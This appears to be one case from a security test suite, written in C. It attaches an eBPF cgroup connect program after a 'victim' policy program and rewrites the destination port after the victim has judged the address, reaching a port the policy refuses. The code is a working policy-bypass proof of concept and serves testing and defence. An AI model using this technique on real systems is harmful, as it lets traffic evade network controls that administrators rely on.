// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Attaches a program after the victim's to the root control group, which turns a connection that is allowed into one that
 * the victim would have refused.
 * Success: a socket is connected to the port that the victim refuses.
 */
#include "bpf.h"
#include "network.h"
#include <arpa/inet.h>
#include <stddef.h>
#include <sys/socket.h>

static void run(void)
{
	struct program program = { .type = BPF_PROG_TYPE_CGROUP_SOCK_ADDR, .attach_type = BPF_CGROUP_INET4_CONNECT };
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t size = sizeof(address);
	int root = must("open the root cgroup", open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY)), connected = socket(AF_INET, SOCK_DGRAM, 0);
	int turn = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_2, htons(PORT_CONNECT)), STORE(BPF_W, BPF_REG_1, offsetof(struct bpf_sock_addr, user_port), BPF_REG_2),
					     SET(BPF_REG_0, 1), RETURN));

	must("BPF_LINK_CREATE", create_link(turn, root, BPF_CGROUP_INET4_CONNECT));
	must("connect", connect(connected, (void *)&address, size));
	if (getpeername(connected, (void *)&address, &size) == 0 && address.sin_port == htons(PORT_CONNECT))
		got("a connection to the port that the victim refuses");
}

ATTACK("changes an address after the victim's program has judged it", .run = run);
